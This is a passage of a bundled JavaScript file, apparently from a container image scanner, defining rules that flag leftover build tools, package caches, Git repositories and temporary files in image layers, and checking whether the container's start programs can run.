import { n as __esmMin } from "../../../rolldown-runtime.js";
import { Fr as count, Gn as init_content, Ir as init_plain, Lr as oneLine, Pr as byteCount, Wn as hashContent, ai as dictionaryIn, b as defineRule, dn as init_files, fi as defined, h as createFinding, ir as init_bytes, l as init_rules$1, oi as init_dictionary, or as init_text, pi as init_defined, rr as bufferOf, si as isDictionary, v as init_problem, x as init_define, zr as truncate } from "../../../shared/core.js";
import { m as init_file, p as contentOf, t as init_layers } from "../../../shared/layers/index.js";
import { I as findElfInterpreter, L as init_elf, a as init_file_owners, c as isPackageDatabase, i as fileOwners, o as isUnchanged, r as compareDigest, s as init_directories } from "../../../shared/packages/third-party/third-party.js";
import { g as init_lookup, v as isSystemType } from "../../../shared/ecosystems/index.js";
import { E as init_shell_words, T as commonShellWords, _t as listHistoryAssignments, gt as init_history_assignments, t as init_dockerfile } from "../../../shared/dockerfile/index.js";
import { a as rootDirectoryType, i as init_root_directory, t as init_packages } from "../../../shared/packages/index.js";
import { L as mayHoldSecret, N as init_names, h as maskSecret, l as init_value, m as init_search, t as init_secrets, u as judgeValue } from "../../../shared/secrets/index.js";

// actions/image-scan/efficiency/layer-owners.ts
/** Creates the owners from the lines of the Dockerfile, if it is known. */
function layerOwners(lines) {
	return {
		isOwn: (layer) => lines === void 0 ? layer > 0 : lines.originOf(layer)?.inBase !== true,
		nameOf(layer) {
			const origin = lines?.originOf(layer);
			if (origin === void 0) return `layer ${layer}`;
			if (origin.inBase) return "the base image";
			return `${origin.instruction.keyword} in line ${origin.instruction.line}`;
		}
	};
}
function init_layer_owners() {
	return (init_layer_owners = __esmMin((() => {})))();
}

// actions/image-scan/image-check.ts
/** Defines a rule about images. Default precision: high. */
function imageRule(text) {
	return defineRule({
		precision: "high",
		...text
	}, kind);
}
/** Like `imageRule`, for rules that are not about security. */
function qualityRule(text) {
	return defineRule({
		precision: "high",
		...text
	}, quality);
}
/** Creates a problem from a rule. */
function imageProblem(rule, facts) {
	const { subject, about, imageLocations, setBy, layer, related, bytes } = facts;
	return {
		rule,
		finding: createFinding({
			rule,
			...facts
		}, {
			locations: [],
			imageLocations,
			subject,
			about
		}),
		...defined({
			setBy,
			layer,
			related,
			bytes
		})
	};
}
/** Places the finding of a problem on its Dockerfile line if that is known. */
function placeProblem(problem, lines) {
	const { finding, setBy, layer, related } = problem;
	if (lines === void 0) return finding;
	if (layer !== void 0) return lines.placeOnLayer(finding, layer, related);
	return setBy === void 0 ? lines.place(finding) : lines.placeOnSetting(finding, ...setBy);
}
/** Formats a list of paths: the first ones, and how many more there are. */
function pathList(paths) {
	const omitted = paths.length - maxShownPaths;
	return `${paths.slice(0, maxShownPaths).map((path) => oneLine(path.toWellFormed())).join(", ")}${omitted > 0 ? ` and ${omitted} more` : ""}`;
}
/** Returns the locations of files in their layers. */
function placesOf(files) {
	return files.slice(0, maxKeptPaths).flatMap(({ header, layer }) => layer === void 0 ? [] : [{
		path: header.path,
		diffId: layer.diffId,
		layerIndex: layer.index
	}]);
}
/** Returns the path of the first file of a group for the fingerprint; empty for an empty group. */
function firstPath(group) {
	return group.slice(0, 1).map(({ header }) => header.path.toWellFormed());
}
/** Groups files by the layer that added them, lowest layer first, each group sorted by path. */
function byLayer(files) {
	return [...Map.groupBy(files, ({ layer }) => layer?.index ?? -1)].toSorted(([a], [b]) => a - b).map(([, group]) => group.toSorted((a, b) => a.header.path < b.header.path ? -1 : 1));
}
var kind, quality, maxShownPaths, maxKeptPaths;
function init_image_check() {
	return (init_image_check = __esmMin((() => {
		init_rules$1();
		init_text();
		kind = {
			tags: ["security"],
			language: "dockerfile",
			help: "reason-and-advice"
		};
		quality = {
			...kind,
			tags: []
		};
		maxShownPaths = 10;
		maxKeptPaths = 1e3;
	})))();
}

// actions/image-scan/efficiency/commands.ts
/** Returns the words of the process that starts. */
function startWords({ entrypoint, cmd }) {
	return [...entrypoint, ...cmd];
}
/** Lists the programs that certainly start: the first word, and what a known init starts. */
function startPrograms(config) {
	const [program, ...args] = startWords(config);
	if (program === void 0 || program === "") return [];
	const dashes = args.indexOf("--");
	const started = wrappers.has(posix$5.basename(program)) && dashes >= 0 ? args[dashes + 1] : void 0;
	return started === void 0 || started === "" ? [program] : [program, started];
}
/**
* Returns the program that a health check cannot do without: that of the exec form, the shell, or the first command of
* the shell form if only `exit` and the like follow.
*/
function checkCommand({ healthcheck, shell }) {
	const [kind, ...words] = healthcheck?.test ?? [];
	if (kind === "CMD") return words[0] === "" ? void 0 : words[0];
	if (kind !== "CMD-SHELL") return void 0;
	if (shell.length > 0 && !/^\/bin\/(?:ba|da|a)?sh$/.test(shell[0] ?? "")) return void 0;
	const [first = "", ...others] = (words[0] ?? "").split(/\|\||&&|;|\n/).map((command) => command.trim());
	if (!others.every((command) => command === "" || ending.test(command))) return void 0;
	const program = /^([\w./+-]+)(?=\s|$)/.exec(first)?.[1];
	return program === void 0 || commonShellWords.has(program) ? void 0 : program;
}
var posix$5, wrappers, ending;
function init_commands() {
	return (init_commands = __esmMin((() => {
		init_dockerfile();
		({posix: posix$5} = process.getBuiltinModule("node:path"));
		wrappers = /* @__PURE__ */ new Set([
			"tini",
			"tini-static",
			"dumb-init",
			"catatonit"
		]);
		ending = /^(?:exit(?: \d{1,3})?|false|true|:|kill (?:-\w+ )?1)$/;
	})))();
}

// actions/image-scan/efficiency/rules/build-tools.ts
/**
* Reports one finding for each RUN that installs such packages by name, with the packages of the same kind that only
* they require. Requires the Dockerfile. Pure.
*/
function buildToolProblems({ packages }, { entrypoint, cmd }, subject, owners, lines) {
	const words = startWords({
		entrypoint,
		cmd
	}).map((word) => posix$4.basename(word));
	const isForPeople = words.length === 0 || words.length === 1 && interactive.test(words[0] ?? "");
	if (lines === void 0 || isForPeople || packages.some(({ purl }) => jitPackages.test(purl))) return [];
	return leftTools(packages, lines, new Set(words)).map(({ layer, installed, others, bytes }) => imageProblem(buildToolsRule, {
		message: `${owners.nameOf(layer)} leaves ${count(installed.length + others, "package")} that only builds need, ${byteCount(bytes)}: ${pathList(installed)}${others === 0 ? "" : ` and what they require`}`,
		subject,
		about: installed.slice(0, 1),
		layer,
		bytes
	}));
}
function leftTools(packages, lines, used) {
	const tools = packages.flatMap((pkg) => {
		const layer = layerOf(pkg);
		const origin = layer === void 0 ? void 0 : lines.originOf(layer);
		if (layer === void 0 || origin === void 0 || origin.inBase || origin.instruction.keyword !== "RUN") return [];
		return toolNames[pkg.type]?.test(pkg.name) === true && !used.has(pkg.name) ? [{
			pkg,
			layer
		}] : [];
	});
	const named = new Map([...new Set(tools.map(({ layer }) => layer))].map((layer) => [layer, wordsOf(layer, lines)]));
	const seeds = tools.filter(({ pkg, layer }) => named.get(layer)?.has(pkg.name) === true);
	const unneeded = withUnneeded(packages, seeds.map(({ pkg }) => pkg), tools.map(({ pkg }) => pkg));
	return [...Map.groupBy(tools.filter(({ pkg }) => unneeded.has(pkg.purl)), ({ layer }) => layer)].flatMap(([layer, group]) => {
		const installed = group.filter((tool) => seeds.includes(tool)).map(({ pkg }) => pkg.name);
		if (installed.length === 0) return [];
		const bytes = group.reduce((sum, { pkg }) => sum + (pkg.installedBytes ?? 0), 0);
		return [{
			layer,
			installed,
			others: group.length - installed.length,
			bytes
		}];
	});
}
/** Returns the lowest layer from which on the package exists. */
function layerOf({ locations }) {
	const layers = locations.flatMap(({ layer }) => layer?.index ?? []);
	return layers.length === 0 ? void 0 : Math.min(...layers);
}
/** Returns the words of a RUN without versions. */
function wordsOf(layer, lines) {
	const instruction = lines.originOf(layer)?.instruction;
	const texts = [instruction?.args.text ?? "", ...(instruction?.heredocs ?? []).map(({ body }) => body.text)];
	return new Set(texts.flatMap((text) => text.split(/[\s;&|"'\\]+/)).map((word) => word.replace(/[=<>~:@/].*$/, "")));
}
/**
* Removes the seeds that other packages require, and adds candidates that only what is removed requires, until nothing
* changes.
*/
function withUnneeded(packages, seeds, candidates) {
	const requiredBy = /* @__PURE__ */ new Map();
	for (const { purl, requires = [] } of packages) for (const required of requires) {
		const dependents = requiredBy.get(required);
		if (dependents === void 0) requiredBy.set(required, [purl]);
		else dependents.push(purl);
	}
	const unneeded = new Set(candidates.map(({ purl }) => purl));
	const todo = packages.filter(({ purl }) => !unneeded.has(purl)).map(({ purl }) => purl);
	const seedPurls = new Set(seeds.map(({ purl }) => purl));
	for (const { purl } of candidates) if (!seedPurls.has(purl) && requiredBy.get(purl) === void 0 && unneeded.delete(purl)) todo.push(purl);
	const byPurl = new Map(packages.map((pkg) => [pkg.purl, pkg]));
	for (let next = todo.pop(); next !== void 0; next = todo.pop()) for (const required of byPurl.get(next)?.requires ?? []) if (unneeded.delete(required)) todo.push(required);
	return unneeded;
}
var posix$4, buildToolsRule, buildToolRules, toolNames, jitPackages, interactive;
function init_build_tools() {
	return (init_build_tools = __esmMin((() => {
		init_text();
		init_image_check();
		init_commands();
		({posix: posix$4} = process.getBuiltinModule("node:path"));
		buildToolsRule = qualityRule({
			id: "SW-IM-build-tools",
			name: "BuildTools",
			severity: "low",
			summary: "Keep compilers and development packages out of the image.",
			why: "Compilers, headers and build systems make every pull larger, add vulnerabilities, and help intruders. No other package of the image requires these. Whether a program calls them cannot be seen.",
			advice: "Compile in an earlier stage and copy the result, or remove the packages in the RUN that installs them.",
			before: "RUN apt-get update && apt-get install -y gcc libpq-dev && pip install psycopg2",
			after: "FROM python:3.13 AS build\nRUN pip install --prefix=/install psycopg2\nFROM python:3.13-slim\nCOPY --from=build /install /usr/local",
			tags: ["efficiency", "CWE-1104"],
			precision: "medium"
		});
		buildToolRules = [buildToolsRule];
		toolNames = {
			deb: /^(?:(?:build-essential|gcc|g\+\+|cpp|clang|llvm|gfortran|binutils|rustc|cargo|golang|make|cmake|ninja-build|meson|autoconf|automake|libtool|bison|flex|nasm|yasm|swig|dpkg-dev|pkg-config|pkgconf|patch|m4)(?:-(?:[\d.]+|base|bin|go|src|common|data|x86-64-linux-gnu|aarch64-linux-gnu))*|[\w.+-]+-dev)$/,
			apk: /^(?:build-base|gcc|g\+\+|clang\d*|llvm\d*|gfortran|binutils|rust|cargo|go|make|cmake|samurai|ninja|meson|autoconf|automake|libtool|bison|flex|nasm|yasm|swig|abuild|pkgconf|patch|m4|fortify-headers|linux-headers|[\w.+-]+-dev)$/,
			rpm: /^(?:gcc(?:-c\+\+|-gfortran)?|cpp|clang|llvm|binutils|rust|cargo|golang(?:-bin|-src)?|make|cmake|ninja-build|meson|autoconf|automake|libtool|bison|flex|nasm|yasm|swig|rpm-build|pkgconf(?:-pkg-config)?|patch|m4|kernel-headers|glibc-headers|[\w.+-]+-devel)$/
		};
		jitPackages = /^pkg:pypi\/(?:triton|torch|tensorflow|jax|pytensor|cython|ninja)@/;
		interactive = /^(?:sh|bash|ash|dash|zsh|fish|sleep|tail|cat|sshd|jenkins-agent|systemd|init|code-server)$/;
	})))();
}

// actions/image-scan/hygiene/leftovers.ts
/** Returns whether the rules about leftovers may report a file of this path. */
function isLeftover(path) {
	return kindOf(path) !== void 0;
}
/** Returns whether a file is in the cache of a package manager, which is reported also if a later layer deletes it. */
function isPackageCache(path) {
	const name = kindOf(path);
	return name !== void 0 && kinds$1.some((kind) => kind.name === name && kind.rule === void 0);
}
function kindOf(path) {
	if (path.endsWith("/.git/config")) return gitDirectory;
	return parts$1.test(path) ? kinds$1.find((kind) => kind.path.test(path))?.name : void 0;
}
/**
* Reports one finding per kind and layer. Package caches that a later layer removes count, because the image still ships them.
* Files that a package installed are no leftovers, and neither is what the command of the container reads. Pure.
*/
function leftoverProblems(files, subject, owners, { entrypoint, cmd }) {
	const left = files.filter((file) => owners.of(file) === void 0);
	const command = [...entrypoint, ...cmd].join(" ");
	return [...Map.groupBy(left, ({ value }) => value)].flatMap(([name, leftoverFiles]) => byLayer(leftoverFiles).flatMap((group) => name === gitDirectory ? repositories(group, subject) : cacheProblems(name, group, subject, command)));
}
function repositories(group, subject) {
	const directories = group.map(({ header }) => header.path.slice(0, -7));
	return imageProblem(repositoryRule, {
		subject,
		about: [gitDirectory],
		imageLocations: placesOf(group),
		message: `the image contains ${directories.length === 1 ? "a Git repository" : "Git repositories"}: ${directories.join(", ")}`
	});
}
/** Returns whether a container has a file that its command does not name. What layers hide is another rule's. */
function isKept({ header, hiddenBy }, command) {
	return hiddenBy === void 0 && !command.includes(header.path);
}
/** Reports files of one kind and layer, unless the command of the container reads them. */
function cacheProblems(name, files, subject, command) {
	const kind = kinds$1.find((each) => each.name === name);
	if (kind === void 0 || kind.readBy?.test(command) === true) return [];
	const { rule = packageCacheRule, aliases, minBytes = 1 } = kind;
	const group = rule === packageCacheRule ? files : files.filter((file) => isKept(file, command));
	const bytes = group.reduce((sum, { header }) => sum + header.size, 0);
	if (bytes < minBytes) return [];
	const removed = group.every(({ hiddenBy }) => hiddenBy !== void 0) ? ", removed later but still shipped" : "";
	const message = `${name}: ${count(group.length, "file")}, ${byteCount(bytes)}${removed}`;
	return [imageProblem(rule, {
		message,
		subject,
		about: [name],
		aliases,
		imageLocations: placesOf(group),
		bytes
	})];
}
var packageCacheRule, repositoryRule, buildCacheRule, temporaryRule, leftoverRules, build, temporary, kinds$1, gitDirectory, leftovers, parts$1;
function init_leftovers() {
	return (init_leftovers = __esmMin((() => {
		init_text();
		init_image_check();
		packageCacheRule = imageRule({
			id: "SW-IM-package-cache",
			name: "PackageCache",
			severity: "low",
			summary: "Remove package manager caches in the layer that creates them.",
			why: "Caches make every pull larger, and stale package lists make later builds install old versions.",
			advice: "Clean up in the same RUN instruction or use a cache mount. A later RUN cannot shrink an earlier layer.",
			before: "RUN apt-get update && apt-get install -y curl",
			after: "RUN apt-get update && apt-get install -y curl && rm -rf /var/lib/apt/lists/*",
			tags: ["CWE-459"],
			precision: "high"
		});
		repositoryRule = imageRule({
			id: "SW-IM-repository-directory",
			name: "RepositoryDirectory",
			severity: "medium",
			summary: "Keep Git repositories out of the image.",
			why: "A repository ships its whole history: removed files, authors, and often credentials in its configuration.",
			advice: "Add .git to .dockerignore, or copy only the files that the image needs.",
			before: "COPY . /app",
			after: "# .dockerignore: .git\nCOPY . /app",
			tags: ["CWE-527", "CWE-538"],
			precision: "high"
		});
		buildCacheRule = qualityRule({
			id: "SW-IM-build-cache",
			name: "BuildCache",
			severity: "low",
			summary: "Keep the caches of build tools out of the image.",
			why: "Only builds read them. They make every pull larger.",
			advice: "Use a cache mount, or copy only what the build makes from an earlier stage.",
			before: "RUN mvn package",
			after: "RUN --mount=type=cache,target=/root/.m2 mvn package",
			tags: ["efficiency", "CWE-459"]
		});
		temporaryRule = qualityRule({
			id: "SW-IM-temporary-files",
			name: "TemporaryFiles",
			severity: "low",
			summary: "Remove temporary files in the RUN that creates them.",
			why: "Temporary files, core dumps and package files make every pull larger, and nothing in the container needs them.",
			advice: "Remove them in the same RUN, or mount a temporary file system for the build.",
			before: "RUN ./configure && make install",
			after: "RUN --mount=type=tmpfs,target=/tmp ./configure && make install",
			tags: ["efficiency", "CWE-459"]
		});
		leftoverRules = [
			packageCacheRule,
			repositoryRule,
			buildCacheRule,
			temporaryRule
		];
		build = {
			rule: buildCacheRule,
			aliases: [],
			minBytes: 1e5
		};
		temporary = {
			rule: temporaryRule,
			aliases: [],
			minBytes: 1e5
		};
		kinds$1 = [
			{
				name: "apt lists",
				path: /^\/var\/lib\/apt\/lists\/[^/]+_/,
				aliases: ["DKL-DI-0005"]
			},
			{
				name: "apt archives",
				path: /^\/var\/cache\/apt\/.*\.(?:deb|bin)$/,
				aliases: []
			},
			{
				name: "apk cache",
				path: /^\/(?:var\/cache|etc)\/apk\/(?:cache\/)?[^/]+\.(?:apk|tar\.gz)$/,
				aliases: ["DKL-DI-0004"]
			},
			{
				name: "yum or dnf cache",
				path: /^\/var\/cache\/(?:yum|dnf|libdnf5|zypp)\/.+\.(?:rpm|xml|gz|zst|solv\w*|sqlite)$/,
				aliases: []
			},
			{
				name: "pip cache",
				path: /\/\.cache\/pip\/.+/,
				aliases: []
			},
			{
				name: "npm cache",
				path: /\/\.npm\/_cacache\/.+/,
				aliases: []
			},
			{
				name: "yarn or pnpm cache",
				path: /\/\.cache\/(?:yarn|pnpm)\/.+/,
				aliases: []
			},
			{
				name: "Go build cache",
				path: /\/\.cache\/go-build\/.+/,
				aliases: []
			},
			{
				name: "Composer cache",
				path: /\/\.(?:cache\/)?composer\/(?:cache\/)?files\/.+/,
				aliases: []
			},
			{
				name: "pacman cache",
				path: /^\/var\/cache\/pacman\/pkg\/.+/,
				...build
			},
			{
				name: "uv cache",
				path: /\/\.cache\/uv\/.+/,
				...build,
				readBy: /\buvx?\b/
			},
			{
				name: "Poetry cache",
				path: /\/\.cache\/pypoetry\/(?:cache|artifacts)\/.+/,
				...build
			},
			{
				name: "conda archives",
				path: /\/pkgs\/(?:cache\/)?[^/]+\.(?:conda|tar\.bz2)$/,
				...build
			},
			{
				name: "Bun cache",
				path: /\/\.bun\/install\/cache\/.+/,
				...build,
				readBy: /\bbunx?\b/
			},
			{
				name: "pnpm store",
				path: /\/\.(?:local\/share\/pnpm\/store|pnpm-store)\/v\d+\/files\/.+/,
				...build
			},
			{
				name: "yarn cache",
				path: /\/\.yarn\/berry\/cache\/.+/,
				...build,
				readBy: /\byarn\b/
			},
			{
				name: "Go module cache",
				path: /\/go\/pkg\/mod\/.+/,
				...build,
				readBy: /\b(?:go|air|dlv)\b/
			},
			{
				name: "Cargo registry",
				path: /\/\.?cargo\/(?:registry|git)\/(?:cache|src|index|db|checkouts)\/.+/,
				...build,
				readBy: /\bcargo\b/
			},
			{
				name: "gem archives",
				path: /\/(?:gems|ruby|bundle)\/(?:[^/]+\/){0,3}cache\/[^/]+\.gem$/,
				...build
			},
			{
				name: "Maven repository",
				path: /\/\.m2\/repository\/.+/,
				...build,
				readBy: /\bmvnw?\b/
			},
			{
				name: "Gradle cache",
				path: /\/\.gradle\/(?:caches|wrapper\/dists)\/.+/,
				...build,
				readBy: /\bgradlew?\b/
			},
			{
				name: "NuGet cache",
				path: /\/\.local\/share\/NuGet\/(?:v3-cache|http-cache)\/.+/,
				...build
			},
			{
				name: "Bazel cache",
				path: /\/\.cache\/bazel\/.+/,
				...build,
				readBy: /\bbazel(?:isk)?\b/
			},
			{
				name: "ccache",
				path: /\/\.(?:cache\/)?s?ccache\/.+/,
				...build
			},
			{
				name: "temporary files",
				path: /^\/(?:var\/)?tmp\/.+/,
				...temporary
			},
			{
				name: "core dumps",
				path: /\/core\.\d+$/,
				...temporary
			},
			{
				name: "package files",
				path: /^\/(?!usr\/share\/)[^:]*\.(?:deb|rpm)$/,
				...temporary
			}
		];
		gitDirectory = "Git repository";
		leftovers = {
			name: "hygiene/leftovers",
			version: 2,
			headersOnly: true,
			wants: ({ path, type, size }) => type === "file" && size > 0 && kindOf(path) !== void 0,
			collect: ({ header }) => kindOf(header.path)
		};
		parts$1 = /\/(?:cache|lists|\.|mod|registry|git|pkgs|tmp|apk|core\.)|\.(?:deb|rpm)$/;
	})))();
}

// actions/image-scan/efficiency/directory-totals.ts
/** Returns up to three directories of a path; of a file in the root, the file. */
function startOf(path) {
	let end = 0;
	for (let part = 0; part < parts; part += 1) {
		const next = path.indexOf("/", end + 1);
		if (next < 0) break;
		end = next;
	}
	return end === 0 ? path : path.slice(0, end);
}
var maxDirectories$1, maxKept, parts, DirectoryTotals;
function init_directory_totals() {
	return (init_directory_totals = __esmMin((() => {
		maxDirectories$1 = 200;
		maxKept = 3;
		parts = 3;
		DirectoryTotals = class {
			#sizes = /* @__PURE__ */ new Map();
			#files = 0;
			#bytes = 0;
			get bytes() {
				return this.#bytes;
			}
			/** @param path absolute and clean. @param size bytes. */
			add(path, size) {
				this.#files += 1;
				this.#bytes += size;
				const directory = startOf(path);
				const counted = this.#sizes.has(directory) || this.#sizes.size < maxDirectories$1 ? directory : "/";
				this.#sizes.set(counted, (this.#sizes.get(counted) ?? 0) + size);
			}
			/** Returns the totals with the largest directories first. */
			toTotals() {
				const sorted = [...this.#sizes].sort((a, b) => b[1] - a[1] || (a[0] < b[0] ? -1 : 1));
				return {
					files: this.#files,
					bytes: this.#bytes,
					directories: sorted.slice(0, maxKept)
				};
			}
		};
	})))();
}

// actions/image-scan/efficiency/program-heads.ts
function isScript(head) {
	return head[0] === 35 && head[1] === 33;
}
/**
* Parses the first line of a script as Linux does (execve(2), "Interpreter scripts"). A carriage return is part of the
* name. Undefined if there is no name, or if the line is longer than what was read.
*/
function parseShebang(text) {
	const end = text.indexOf("\n");
	if (end < 0 && text.length >= lineBytes) return void 0;
	const line = (end < 0 ? text : text.slice(0, end)).slice(2).replace(/^[ \t]+|[ \t]+$/g, "");
	const space = line.search(/[ \t]/);
	const interpreter = space < 0 ? line : line.slice(0, space);
	const argument = space < 0 ? "" : line.slice(space).trimStart();
	if (interpreter === "") return void 0;
	return {
		kind: "script",
		interpreter,
		...argument === "" ? {} : { argument }
	};
}
var otherDirectory, lineBytes, programHeads;
function init_program_heads() {
	return (init_program_heads = __esmMin((() => {
		init_layers();
		init_packages();
		otherDirectory = /^\/(?:usr\/)?(?:lib|lib32|lib64|libexec|share|include)\/|\/(?:node_modules|site-packages|dist-packages)\/|\.so(?:\.[\d.]+)?$/;
		lineBytes = 256;
		programHeads = {
			name: "efficiency/program-heads",
			version: 1,
			isForAnalyzers: true,
			readsInPlace: true,
			wants: ({ path, type, mode, size }) => type === "file" && size > 2 && (mode & 73) !== 0 && !otherDirectory.test(path),
			sniffs: (head) => isScript(head) || head[0] === 127 && head[1] === 69,
			collect(file) {
				const content = contentOf(file);
				const head = content.read(0, Math.min(lineBytes, content.size));
				if (isScript(head)) return parseShebang(Buffer.from(head).toString("utf8"));
				const interpreter = findElfInterpreter(content);
				return interpreter === void 0 ? void 0 : {
					kind: "elf",
					interpreter
				};
			}
		};
	})))();
}

// actions/image-scan/efficiency/users.ts
/** Parses passwd(5) or group(5). Skips lines without a name and a number. Pure. */
function parseAccounts(text, isPasswd) {
	return text.split("\n", maxAccounts).map((line) => line.trimEnd().split(":")).flatMap(([name = "", , id = "", fourth = "", , home = ""]) => {
		if (name === "" || !/^\d{1,10}$/.test(id)) return [];
		if (isPasswd) return [{
			name,
			id: Number(id),
			group: Number(fourth),
			home
		}];
		return [{
			name,
			id: Number(id),
			members: fourth.split(",").filter((member) => member !== "")
		}];
	});
}
/**
* Resolves the setting USER as runtimes do: names in /etc/passwd and /etc/group, or numbers (OCI image specification,
* config.md, `User`). Undefined if the image has such a file that was not read.
* @param image read with `accountIds`.
*/
function resolveUser(image) {
	const { user } = image.config;
	const accounts = listIn(image, "/etc/passwd");
	const groups = listIn(image, "/etc/group");
	if (accounts === void 0 || groups === void 0) return void 0;
	const [name = "", group = ""] = (user === "" ? "0" : user).split(":");
	const account = find(accounts, name) ?? (name === "root" ? {
		name,
		id: 0
	} : void 0);
	const stated = find(groups, group);
	if (account === void 0 && !isNumber(name)) return { unknown: `user ${name}` };
	if (group !== "" && stated === void 0 && !isNumber(group)) return { unknown: `group ${group}` };
	const uid = account?.id ?? Number(name);
	const gid = group === "" ? account?.group ?? 0 : stated?.id ?? Number(group);
	const others = groups.filter(({ members = [] }) => group === "" && account !== void 0 && members.includes(account.name));
	const home = account?.home;
	return {
		uid,
		groups: [gid, ...others.map(({ id }) => id)],
		...home === void 0 ? {} : { home }
	};
}
function listIn(image, path) {
	return image.found(accountIds).find(({ header, hiddenBy }) => header.path === path && hiddenBy === void 0)?.value ?? (image.find(path) === void 0 ? [] : void 0);
}
function find(accounts, name) {
	return accounts.find((account) => account.name === name) ?? accounts.find(({ id }) => isNumber(name) && id === Number(name));
}
function isNumber(text) {
	return /^\d{1,10}$/.test(text);
}
/**
* Returns whether the mode of an entry lets a user do something (path_resolution(7), "Permissions"). Root may do
* everything, but runs a file only if somebody may.
*/
function mayAccess({ mode, uid, gid, kind }, user, bit) {
	if (user.uid === 0) return bit !== access.execute || kind === "directory" || (mode & 73) !== 0;
	return (mode >> (user.uid === uid ? 6 : user.groups.includes(gid) ? 3 : 0) & bit) !== 0;
}
var maxBytes$4, maxAccounts, accountIds, access;
function init_users() {
	return (init_users = __esmMin((() => {
		maxBytes$4 = 2 ** 20;
		maxAccounts = 1e4;
		accountIds = {
			name: "efficiency/accounts",
			version: 1,
			wants: ({ path, type }) => (type === "file" || type === "hardlink") && /^\/etc\/(?:passwd|group)$/.test(path),
			maxBytes: maxBytes$4,
			isForAnalyzers: true,
			named: {
				names: /^(?:passwd|group)$/,
				parts: 2
			},
			collect: ({ header, body }) => parseAccounts(Buffer.from(body).toString("utf8"), header.path === "/etc/passwd")
		};
		access = {
			execute: 1,
			write: 2,
			read: 4
		};
	})))();
}

// actions/image-scan/efficiency/programs.ts
/** Returns the program that `#!/usr/bin/env` looks up, if it is plain. */
function envProgram({ interpreter, argument = "" }) {
	if (posix$3.basename(interpreter) !== "env") return [];
	const [name = ""] = (argument.startsWith("-S") ? argument.slice(2).trim().split(/[ \t]+/) : [argument]).filter((word) => !word.includes("="));
	return /^[\w./+-]+\r?$/.test(name) && !name.startsWith("-") ? [name] : [];
}
var posix$3, defaultPath, runtimePlace, maxInterpreters, maxDirectories, Programs;
function init_programs() {
	return (init_programs = __esmMin((() => {
		init_program_heads();
		init_users();
		({posix: posix$3} = process.getBuiltinModule("node:path"));
		defaultPath = "/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin";
		runtimePlace = /^\/(?:proc|sys|dev|run|var\/run)\//;
		maxInterpreters = 5;
		maxDirectories = 100;
		Programs = class {
			#image;
			#user;
			#heads;
			#path;
			#directory;
			constructor(image, user) {
				this.#image = image;
				this.#user = user;
				const { env, workingDir } = image.config;
				const path = env.findLast((entry) => entry.startsWith("PATH="))?.slice(5) ?? defaultPath;
				this.#path = path.split(":").slice(0, maxDirectories);
				this.#directory = workingDir === "" ? "/" : posix$3.resolve("/", workingDir);
				const heads = image.found(programHeads).filter(({ hiddenBy }) => hiddenBy === void 0);
				this.#heads = new Map(heads.map((file) => [file.realPath ?? file.header.path, file]));
			}
			/** Returns whether a directory of PATH or the path itself has a program of this name. */
			has(program) {
				return this.#candidates(program).some((path) => this.#image.find(path, this.#directory)?.kind !== void 0);
			}
			/** Returns why a program cannot be started; undefined if it can, or if that is not certain. */
			problemOf(program) {
				return this.#problemOf(program, maxInterpreters);
			}
			#problemOf(program, depth) {
				const candidates = this.#candidates(program);
				if (candidates.some((path) => this.#isFilledLater(path))) return void 0;
				const entries = candidates.flatMap((path) => this.#image.find(path, this.#directory) ?? []);
				const entry = entries.find((each) => this.#accessProblem(each) === void 0) ?? entries[0];
				if (entry === void 0) return {
					program,
					kind: "missing"
				};
				const kind = this.#accessProblem(entry);
				if (kind !== void 0) return {
					program,
					kind,
					path: entry.path
				};
				return this.#headProblem(program, entry, depth);
			}
			#candidates(program) {
				return program.includes("/") ? [program] : this.#path.map((directory) => `${directory === "" ? "." : directory}/${program}`);
			}
			/** Runtimes and volumes may put files there. */
			#isFilledLater(path) {
				const absolute = posix$3.resolve(this.#directory, path);
				return runtimePlace.test(absolute) || this.#image.config.volumes.some((volume) => absolute.startsWith(`${posix$3.resolve("/", volume)}/`));
			}
			#accessProblem(entry) {
				if (entry.kind === "symlink") return "missing";
				if (entry.kind !== "file" && entry.kind !== "hardlink") return "no-file";
				if ((entry.mode & 73) === 0) return "not-executable";
				return this.#isReachable(entry.path) && mayAccess(entry, this.#user, access.execute) ? void 0 : "not-permitted";
			}
			/** Returns whether the user may search all directories of a path. */
			#isReachable(path) {
				for (let directory = posix$3.dirname(path); directory !== "/"; directory = posix$3.dirname(directory)) {
					const entry = this.#image.find(directory);
					if (entry !== void 0 && !mayAccess(entry, this.#user, access.execute)) return false;
				}
				return true;
			}
			#headProblem(program, entry, depth) {
				const head = this.#heads.get(entry.path)?.value;
				if (head === void 0 || depth === 0) return void 0;
				const { kind, interpreter } = head;
				const problem = {
					program,
					path: entry.path
				};
				if (kind === "script" && !mayAccess(entry, this.#user, access.read)) return {
					...problem,
					kind: "not-readable"
				};
				if (!interpreter.startsWith("/")) return void 0;
				if (kind === "elf") return this.#image.find(interpreter) === void 0 ? {
					...problem,
					kind: "no-interpreter",
					interpreter
				} : void 0;
				const named = [interpreter, ...envProgram(head)].find((each) => this.#problemOf(each, depth - 1) !== void 0);
				return named === void 0 ? void 0 : {
					...problem,
					kind: "no-interpreter",
					interpreter: named
				};
			}
		};
	})))();
}

// actions/image-scan/efficiency/rules/copied-content.ts
/** Returns the positions of layers that the history says were copied. */
function copiedLayers({ config, layers, isComplete }) {
	const steps = config.history.filter(({ emptyLayer }) => !emptyLayer);
	if (!isComplete || steps.length !== layers.length) return [];
	return steps.flatMap(({ createdBy = "" }, layer) => copyStep.test(createdBy) ? [layer] : []);
}
function unneededFiles(image, layer, unread) {
	const totals = new Map(unread.map((kind) => [kind, new DirectoryTotals()]));
	image.visitVisible(layer, ({ directory, name, size }) => {
		if (!endings.test(name) && !directory.includes("/target/")) return;
		const kind = unread.find(({ test }) => test(directory, name));
		const path = `${directory}/${name}`;
		if (kind !== void 0 && !isLeftover(path)) totals.get(kind)?.add(path, size);
	});
	return [...totals].flatMap(([{ name }, total]) => total.bytes < minBytes$2 ? [] : [{
		layer,
		kind: name,
		...total.toTotals()
	}]);
}
/** Reports one finding per layer and kind of files. Pure. */
function copiedContentProblems(found, subject, owners) {
	return found.filter(({ layer }) => owners.isOwn(layer)).map(({ layer, kind, files, bytes, directories }) => imageProblem(unneededCopyRule, {
		message: `${owners.nameOf(layer)} copies ${kind} that nothing in the image reads: ${count(files, "file")}, ${byteCount(bytes)} (${pathList(directories.map(([path]) => path))})`,
		subject,
